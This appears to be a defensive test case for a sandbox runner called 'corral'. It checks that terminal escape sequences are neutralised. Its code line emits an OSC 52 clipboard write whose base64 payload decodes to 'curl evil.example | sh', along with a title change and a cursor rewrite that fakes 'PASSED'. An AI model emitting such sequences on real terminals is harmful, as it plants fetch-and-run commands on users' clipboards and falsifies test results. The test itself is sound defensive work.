ID = 'term.escape-sequences'
CATEGORY = 'terminal'
DESCRIPTION = 'OSC 52 (clipboard write), a title set, and a cursor rewrite faking PASSED, shown by `corral run` on a terminal'
CLAIMS = ('rule:limits.output',)
CODE = r"""
sys.stdout.write("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;owned\x07FAILED\r\x1b[2KPASSED\n")
sys.stdout.flush()
"""
CONTROL = 'host'
CONTAINED = 'on a terminal, corral shows the escape bytes neutralised: no raw ESC reaches it'
TTY = True


def score(obs):
    raw = [s for s in ("\x1b]52", "\x1b]0;", "\x1b[2K") if s in obs.stdout]
    if raw:
        return False, "raw escape sequences reached the terminal: " + ", ".join(repr(r) for r in raw)
    if "PASSED" not in obs.stdout:
        return None, "inconclusive: the output did not reach the terminal"
    return True, "the terminal got the text with its escape sequences neutralised"
